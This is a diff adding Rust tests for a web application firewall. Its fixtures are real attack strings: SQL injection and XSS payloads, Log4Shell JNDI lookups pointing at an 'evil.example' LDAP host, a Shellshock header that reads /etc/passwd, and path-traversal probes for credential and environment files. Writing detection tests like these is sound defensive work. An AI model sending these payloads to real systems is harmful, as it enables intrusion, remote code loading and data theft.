@@ -1,0 +1,576 @@
+//! Tests of [`Waf::inspect`] as the gateway will call it: whole requests, each field kind,
+//! each encoding trick end to end, exclusions, corpus lines as fixtures, and no panics on
+//! random input.
+
+use super::*;
+
+fn waf() -> Waf {
+    match Waf::new(WafConfig::default()) {
+        Ok(w) => w,
+        Err(e) => panic!("default config rejected: {e}"),
+    }
+}
+
+fn get(path: &str, query: Option<&str>) -> Vec<Finding> {
+    waf().inspect(&RequestView {
+        method: "GET",
+        path,
+        query,
+        headers: &[],
+        content_type: None,
+        body: b"",
+    })
+}
+
+fn post(content_type: &str, body: &[u8]) -> Vec<Finding> {
+    waf().inspect(&RequestView {
+        method: "POST",
+        path: "/api/items",
+        query: None,
+        headers: &[],
+        content_type: Some(content_type),
+        body,
+    })
+}
+
+fn with_headers(headers: &[(&str, &[u8])]) -> Vec<Finding> {
+    waf().inspect(&RequestView {
+        method: "GET",
+        path: "/",
+        query: None,
+        headers,
+        content_type: None,
+        body: b"",
+    })
+}
+
+fn rules_and_fields(findings: &[Finding]) -> Vec<(RuleId, &str)> {
+    findings
+        .iter()
+        .map(|f| (f.rule, f.field.as_str()))
+        .collect()
+}
+
+#[test]
+fn waf_is_send_and_sync() {
+    fn assert_send_sync<T: Send + Sync>() {}
+    assert_send_sync::<Waf>();
+}
+
+#[test]
+fn clean_request_has_no_findings() {
+    let findings = waf().inspect(&RequestView {
+        method: "GET",
+        path: "/api/v1/users/42/orders",
+        query: Some("page=2&limit=50&sort=-created_at&q=O%27Brien&plan=select+a+plan"),
+        headers: &[
+            ("Host", b"api.example.com"),
+            (
+                "User-Agent",
+                b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
+            ),
+            ("Referer", b"https://app.example.com/orders?page=1"),
+            ("Cookie", b"session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2ln; theme=dark"),
+            ("Accept", b"application/json"),
+        ],
+        content_type: None,
+        body: b"",
+    });
+    assert_eq!(findings, vec![]);
+}
+
+#[test]
+fn sqli_in_query_value_names_field_and_fingerprint() {
+    let findings = get("/search", Some("q=1%27%20OR%20%271%27%3D%271&page=1"));
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Sqli, "query:q")]);
+    assert_eq!(findings[0].matched, "1' OR '1'='1");
+    assert!(
+        findings[0]
+            .fingerprint
+            .as_deref()
+            .is_some_and(|f| !f.is_empty())
+    );
+}
+
+#[test]
+fn sqli_in_query_key_is_found() {
+    let findings = get("/search", Some("1%27%20OR%20%271%27%3D%271=x"));
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Sqli, "query-key:1' OR '1'='1")]
+    );
+}
+
+#[test]
+fn repeated_keys_are_each_inspected() {
+    let findings = get("/", Some("id=1&id=%3Cscript%3Ealert(1)%3C/script%3E"));
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:id")]);
+}
+
+#[test]
+fn plus_decodes_to_space_in_query() {
+    // Without `+` → space this is one word to libinjection.
+    let findings = get("/", Some("id=1+UNION+SELECT+password+FROM+users--"));
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Sqli, "query:id")]
+    );
+}
+
+#[test]
+fn double_encoding_does_not_slip_through() {
+    let findings = get("/", Some("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"));
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
+    assert_eq!(findings[0].matched, "<script>alert(1)</script>");
+}
+
+#[test]
+fn percent_u_encoding_does_not_slip_through() {
+    let findings = get("/", Some("q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"));
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
+}
+
+#[test]
+fn html_entities_do_not_slip_through() {
+    let findings = get(
+        "/",
+        Some("q=%26%23x3C%3Bimg%20src%3Dx%20onerror%3Dalert(1)%26%23x3E%3B"),
+    );
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
+}
+
+#[test]
+fn nul_bytes_inside_markup_do_not_slip_through() {
+    let findings = get("/", Some("q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E"));
+    let rules: Vec<RuleId> = findings.iter().map(|f| f.rule).collect();
+    assert!(rules.contains(&RuleId::Xss), "{findings:?}");
+    // The NUL itself is reported as a truncation attempt.
+    assert!(rules.contains(&RuleId::Traversal), "{findings:?}");
+}
+
+#[test]
+fn form_body_values_are_inspected() {
+    let findings = post(
+        "application/x-www-form-urlencoded; charset=UTF-8",
+        b"name=Jane&comment=%3Csvg%2Fonload%3Dalert(1)%3E",
+    );
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Xss, "form:comment")]
+    );
+}
+
+#[test]
+fn json_values_and_keys_are_inspected_with_paths() {
+    let findings = post(
+        "application/json",
+        br#"{"user": {"name": "x' UNION SELECT 1,2,3-- ", "ok": "fine"},
+            "<img src=x onerror=alert(1)>": 1}"#,
+    );
+    let mut got = rules_and_fields(&findings);
+    got.sort();
+    assert_eq!(
+        got,
+        vec![
+            (RuleId::Sqli, "json:$.user.name"),
+            (RuleId::Xss, "json-key:$.<img src=x onerror=alert(1)>"),
+        ]
+    );
+}
+
+#[test]
+fn json_unicode_escapes_are_decoded() {
+    let findings = post(
+        "application/vnd.api+json",
+        br#"{"bio": "\u003cscript\u003ealert(1)\u003c/script\u003e"}"#,
+    );
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Xss, "json:$.bio")]
+    );
+}
+
+#[test]
+fn malformed_json_is_inspected_as_raw_body() {
+    let findings = post("application/json", b"{\"q\": \"1' OR '1'='1\"");
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Sqli, "body")]);
+}
+
+#[test]
+fn multipart_values_and_file_names_are_inspected_but_not_contents() {
+    let body = b"--b0undary\r\n\
+Content-Disposition: form-data; name=\"title\"\r\n\r\n\
+1' AND SLEEP(5)-- \r\n\
+--b0undary\r\n\
+Content-Disposition: form-data; name=\"file\"; filename=\"../../../etc/passwd\"\r\n\
+Content-Type: text/html\r\n\r\n\
+<script>alert('content is data')</script>\r\n\
+--b0undary--\r\n";
+    let findings = post("multipart/form-data; boundary=b0undary", body);
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![
+            (RuleId::Sqli, "multipart:title"),
+            (RuleId::Traversal, "multipart-filename:file"),
+        ]
+    );
+}
+
+#[test]
+fn cookies_are_inspected_by_name() {
+    let findings = with_headers(&[(
+        "Cookie",
+        b"theme=dark; session=abc%27%20OR%201%3D1--%20" as &[u8],
+    )]);
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Sqli, "cookie:session")]
+    );
+}
+
+#[test]
+fn attack_headers_get_injection_detectors_other_headers_do_not() {
+    let payload: &[u8] = b"<script>alert(1)</script>";
+    let findings = with_headers(&[("Referer", payload), ("X-Custom", payload)]);
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Xss, "header:referer")]
+    );
+    let strict = Waf::new(WafConfig {
+        paranoia: Paranoia::Strict,
+        ..WafConfig::default()
+    })
+    .map(|w| {
+        w.inspect(&RequestView {
+            method: "GET",
+            path: "/",
+            query: None,
+            headers: &[("X-Custom", payload)],
+            content_type: None,
+            body: b"",
+        })
+    })
+    .unwrap_or_default();
+    assert_eq!(
+        rules_and_fields(&strict),
+        vec![(RuleId::Xss, "header:x-custom")]
+    );
+}
+
+#[test]
+fn repeated_attack_headers_are_reported_on_every_request() {
+    // The per-thread memo of clean header values must never remember an attack, even when
+    // the same value appears twice in one request (the second finding is deduplicated).
+    let payload: &[u8] = b"x' OR '1'='1";
+    for _ in 0..3 {
+        let findings = with_headers(&[("Referer", payload), ("Referer", payload)]);
+        assert_eq!(
+            rules_and_fields(&findings),
+            vec![(RuleId::Sqli, "header:referer")]
+        );
+    }
+    let clean: &[u8] = b"https://app.example.com/a?b=c";
+    for _ in 0..3 {
+        assert_eq!(with_headers(&[("Referer", clean)]), vec![]);
+    }
+}
+
+#[test]
+fn log4shell_in_any_header_and_obfuscated() {
+    let findings = with_headers(&[
+        ("X-Api-Version", b"${jndi:ldap://evil.example/a}" as &[u8]),
+        ("Accept-Language", b"${${lower:j}ndi:${lower:l}dap://x/a}"),
+        ("X-Trace", b"%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%7D"),
+    ]);
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![
+            (RuleId::Log4shell, "header:x-api-version"),
+            (RuleId::Log4shell, "header:accept-language"),
+            (RuleId::Log4shell, "header:x-trace"),
+        ]
+    );
+}
+
+#[test]
+fn log4shell_in_xml_body_of_unparsed_type() {
+    let findings = post("application/xml", b"<a>${jndi:ldap://x/a}</a>");
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![(RuleId::Log4shell, "body")]
+    );
+}
+
+#[test]
+fn shellshock_in_user_agent() {
+    let findings = with_headers(&[("User-Agent", b"() { :; }; /bin/cat /etc/passwd" as &[u8])]);
+    assert!(
+        rules_and_fields(&findings).contains(&(RuleId::Shellshock, "header:user-agent")),
+        "{findings:?}"
+    );
+}
+
+#[test]
+fn scanner_user_agent_and_probe_path() {
+    let findings = waf().inspect(&RequestView {
+        method: "GET",
+        path: "/.git/config",
+        query: None,
+        headers: &[("user-agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)")],
+        content_type: None,
+        body: b"",
+    });
+    assert_eq!(
+        rules_and_fields(&findings),
+        vec![
+            (RuleId::Scanner, "path"),
+            (RuleId::Scanner, "header:user-agent")
+        ]
+    );
+}
+
+#[test]
+fn traversal_in_path_query_and_encoded_variants() {
+    for (path, query) in [
+        ("/static/..%2f..%2fetc/passwd", None),
+        ("/static/%252e%252e/%252e%252e/secret", None),
+        ("/download", Some("file=..%5c..%5cwindows%5cwin.ini")),
+        ("/download", Some("file=report.pdf%00.jpg")),
+        ("/view", Some("page=%2Fproc%2Fself%2Fenviron")),
+    ] {
+        let findings = get(path, query);
+        assert!(
+            findings.iter().any(|f| f.rule == RuleId::Traversal),
+            "{path} {query:?}: {findings:?}"
+        );
+    }
+}
+
+#[test]
+fn xss_in_path_segment() {
+    let findings = get("/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E", None);
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "path")]);
+}
+
+#[test]
+fn body_beyond_the_inspection_limit_is_not_read() {
+    let mut body = b"a=".to_vec();
+    body.extend(std::iter::repeat_n(b'x', 100));
+    body.extend_from_slice(b"&b=%3Cscript%3Ealert(1)%3C/script%3E");
+    let limited = Waf::new(WafConfig {
+        max_inspected_bytes: 64,
+        ..WafConfig::default()
+    });
+    let request = RequestView {
+        method: "POST",
+        path: "/",
+        query: None,
+        headers: &[],
+        content_type: Some("application/x-www-form-urlencoded"),
+        body: &body,
+    };
+    let findings = limited.map(|w| w.inspect(&request)).unwrap_or_default();
+    assert_eq!(findings, vec![]);
+    assert_eq!(waf().inspect(&request).len(), 1);
+}
+
+#[test]
+fn disabled_detectors_report_nothing() {
+    let w = Waf::new(WafConfig {
+        xss: false,
+        ..WafConfig::default()
+    });
+    let request = RequestView {
+        method: "GET",
+        path: "/",
+        query: Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
+        headers: &[],
+        content_type: None,
+        body: b"",
+    };
+    assert_eq!(w.map(|w| w.inspect(&request)).unwrap_or_default(), vec![]);
+}
+
+#[test]
+fn exclusions_skip_rules_for_fields_under_a_prefix_only() {
+    let w = Waf::new(WafConfig {
+        exclusions: vec![Exclusion {
+            path_prefix: "/cms/".into(),
+            rules: vec![RuleId::Xss],
+            fields: vec!["json:$.body_html".into()],
+        }],
+        ..WafConfig::default()
+    });
+    let Ok(w) = w else {
+        panic!("valid exclusion rejected")
+    };
+    let body =
+        br#"{"body_html": "<img src=x onerror=alert(1)>", "title": "<script>alert(1)</script>"}"#;
+    let at = |path: &'static str| {
+        w.inspect(&RequestView {
+            method: "POST",
+            path,
+            query: None,
+            headers: &[],
+            content_type: Some("application/json"),
+            body,
+        })
+    };
+    let mut cms = rules_and_fields(&at("/cms/pages/1"))
+        .into_iter()
+        .map(|(r, f)| (r, f.to_owned()))
+        .collect::<Vec<_>>();
+    cms.sort();
+    assert_eq!(cms, vec![(RuleId::Xss, "json:$.title".to_owned())]);
+    assert_eq!(at("/api/pages/1").len(), 2);
+}
+
+#[test]
+fn exclusion_of_all_rules_on_a_cookie_pattern() {
+    let w = Waf::new(WafConfig {
+        exclusions: vec![Exclusion {
+            path_prefix: "/".into(),
+            rules: vec![],
+            fields: vec!["cookie:*".into()],
+        }],
+        ..WafConfig::default()
+    });
+    let findings = w
+        .map(|w| {
+            w.inspect(&RequestView {
+                method: "GET",
+                path: "/",
+                query: Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
+                headers: &[("Cookie", b"x=<script>alert(1)</script>")],
+                content_type: None,
+                body: b"",
+            })
+        })
+        .unwrap_or_default();
+    assert_eq!(rules_and_fields(&findings), vec![(RuleId::Xss, "query:q")]);
+}
+
+#[test]
+fn invalid_config_is_rejected_by_new() {
+    let err = Waf::new(WafConfig {
+        exclusions: vec![Exclusion {
+            path_prefix: "nope".into(),
+            rules: vec![RuleId::Sqli],
+            fields: vec![],
+        }],
+        ..WafConfig::default()
+    })
+    .err();
+    assert_eq!(
+        err,
+        Some(WafError::InvalidPathPrefix {
+            index: 0,
+            prefix: "nope".into()
+        })
+    );
+}
+
+#[test]
+fn matched_is_truncated_in_findings() {
+    let query = format!("q={}", "%3Cscript%3Ealert(1)%3C/script%3E".repeat(10));
+    let findings = get("/", Some(&query));
+    assert_eq!(findings.len(), 1);
+    assert_eq!(findings[0].matched.chars().count(), MATCHED_MAX_CHARS);
+    assert!(
+        findings[0]
+            .matched
+            .starts_with("<script>alert(1)</script><script>")
+    );
+}
+
+#[test]
+fn finding_serializes_for_the_access_log() {
+    let findings = get("/", Some("q=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"));
+    let json = serde_json::to_string(&findings).unwrap_or_default();
+    assert_eq!(
+        json,
+        r#"[{"rule":"log4shell","field":"query:q","matched":"${jndi:ldap://x}","fingerprint":null}]"#
+    );
+}
+
+/// Lines from `/work/shared/corpora/libinjection/data` and PayloadsAllTheThings, as they are
+/// stored there (URL-encoded query values for libinjection, raw for PATT).
+#[test]
+fn corpus_lines_as_fixtures() {
+    let attacks = [
+        "SO_BUY%3B+IF+%281%3D1%29+WAITFOR+DELAY+%2700%3A00%3A01%27--", // sqli-misc.txt
+        "SO_BUY+AND+IF%281%3D1%2CBENCHMARK%281589466%2CMD5%280X41%29%29%2C0%29", // sqli-misc.txt
+        "%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
+        "1%27+into+outfile+%27%2Ftmp%2Fx", // a known libinjection miss, via the supplement
+    ];
+    for line in attacks {
+        assert!(!get("/", Some(&format!("q={line}"))).is_empty(), "{line}");
+    }
+    // false_positives.txt: tricky benign inputs that must stay clean.
+    for line in [
+        "NOT ALL WHO WANDER",
+        "LOCK AND KEY",
+        "Y'ALL COME BACK NOW",
+        "3 TO 6 MONTHS",
+        "2 OR 4 METAL BUTTONS",
+    ] {
+        let q = format!("q={}", line.replace(' ', "+").replace('\'', "%27"));
+        assert_eq!(get("/", Some(&q)), vec![], "{line}");
+    }
+}
+
+/// Never panics, whatever the bytes: random paths, queries, headers and bodies of every
+/// content type, from a fixed-seed xorshift generator (reproducible, bounded count).
+#[test]
+fn random_input_never_panics() {
+    let mut seed: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut next = move || {
+        seed ^= seed << 13;
+        seed ^= seed >> 7;
+        seed ^= seed << 17;
+        seed
+    };
+    // Bias towards the bytes that drive the parsers and decoders.
+    const SPECIAL: &[u8] = b"%&=;+/\\.<>\"'${}()-#:\x00\x0b\r\nuU0123456789abcdefjndi";
+    let mut bytes = |len: usize| -> Vec<u8> {
+        (0..len)
+            .map(|_| {
+                let r = next();
+                if r % 3 == 0 {
+                    SPECIAL[(r >> 8) as usize % SPECIAL.len()]
+                } else {
+                    (r >> 16) as u8
+                }
+            })
+            .collect()
+    };
+    let w = waf();
+    let types = [
+        "application/json",
+        "application/x-www-form-urlencoded",
+        "multipart/form-data; boundary=%",
+        "text/plain",
+    ];
+    for i in 0..3_000 {
+        let path = String::from_utf8_lossy(&bytes(i % 40)).into_owned();
+        let query = String::from_utf8_lossy(&bytes(i % 97)).into_owned();
+        let header = bytes(i % 60);
+        let cookie = bytes(i % 50);
+        let body = bytes(i % 300);
+        let findings = w.inspect(&RequestView {
+            method: "POST",
+            path: &path,
+            query: Some(&query),
+            headers: &[
+                ("User-Agent", &header),
+                ("Cookie", &cookie),
+                ("X-Any", &header),
+            ],
+            content_type: Some(types[i % types.len()]),
+            body: &body,
+        });
+        for f in findings {
+            assert!(f.matched.chars().count() <= MATCHED_MAX_CHARS);
+        }
+    }
+}
